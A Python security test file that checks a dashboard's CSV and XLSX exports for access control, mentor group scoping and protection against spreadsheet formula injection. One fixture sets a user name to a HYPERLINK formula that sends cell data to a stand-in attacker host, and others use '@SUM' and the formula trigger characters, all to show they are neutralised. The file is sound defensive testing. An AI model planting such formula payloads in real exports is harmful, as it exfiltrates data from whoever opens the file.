"""R08: the dashboard's CSV/XLSX exports are for the director and mentors only, a mentor's file
holds only their group, and no cell can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import FORMULA_TRIGGERS, TEXT, Column, table_csv, table_xlsx
from kpi.services import kpi_snapshots_recompute
from tests.security.conftest import ROLES, login

EXPORTS = [
    f"/dashboard/export/{table}.{fmt}"
    for table in ("managers", "groups")
    for fmt in ("csv", "xlsx")
]


@pytest.mark.parametrize("role", ROLES)
def test_only_the_director_and_mentors_can_export(world, role):
    client = login(world, role)
    for url in EXPORTS:
        response = client.get(url)
        if role in ("anonymous", "inactive"):
            assert response.status_code == 302, url
            assert "login" in response["Location"]
        elif role in ("director", "mentor", "mentor2"):
            assert response.status_code == 200, url
            assert response["Content-Disposition"].startswith("attachment;")
        else:
            assert response.status_code == 403, url


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_mentors_export_holds_only_their_group_and_names_are_neutralised(world):
    names = {
        "manager": '=HYPERLINK("http://evil.example/?x="&A1;"click")',
        "colleague": "+7 (391) 000-00-00",
        "other_manager": "Чужой Менеджер",
        "other_manager2": "@SUM(1+1)",
    }
    for role, name in names.items():
        user = world.user(role)
        user.full_name = name
        user.save(update_fields=["full_name"])
    kpi_snapshots_recompute()
    rows = _csv_rows(login(world, "mentor").get("/dashboard/export/managers.csv").content)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + names["manager"] in cells
    assert "'" + names["colleague"] in cells
    assert names["manager"] not in cells
    for foreign in (names["other_manager"], names["other_manager2"], "'" + names["other_manager2"]):
        assert foreign not in cells
    everyone = _csv_rows(login(world, "director").get("/dashboard/export/managers.csv").content)
    assert "'" + names["other_manager2"] in [cell for row in everyone for cell in row]


formula_text = st.builds(
    lambda prefix, rest: prefix + rest,
    st.sampled_from(FORMULA_TRIGGERS),
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30),
)
any_text = st.one_of(formula_text, st.text(max_size=30))


@settings(deadline=None)
@given(values=st.lists(any_text, min_size=1, max_size=5))
def test_no_exported_text_cell_starts_with_a_formula_trigger(values):
    columns = [Column(f"c{i}", f"col {i}", TEXT) for i in range(len(values))]
    row = {f"c{i}": value for i, value in enumerate(values)}
    (_header, cells) = _csv_rows(table_csv(columns, [row]))[:2]
    for source, cell in zip(values, cells, strict=True):
        if source.startswith(FORMULA_TRIGGERS):
            assert cell == "'" + source
        assert not cell.startswith(FORMULA_TRIGGERS)
    sheet = load_workbook(io.BytesIO(table_xlsx(columns, [row], title="t"))).active
    for cell in next(sheet.iter_rows(min_row=2, max_row=2)):
        assert cell.data_type != "f"
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_TRIGGERS)
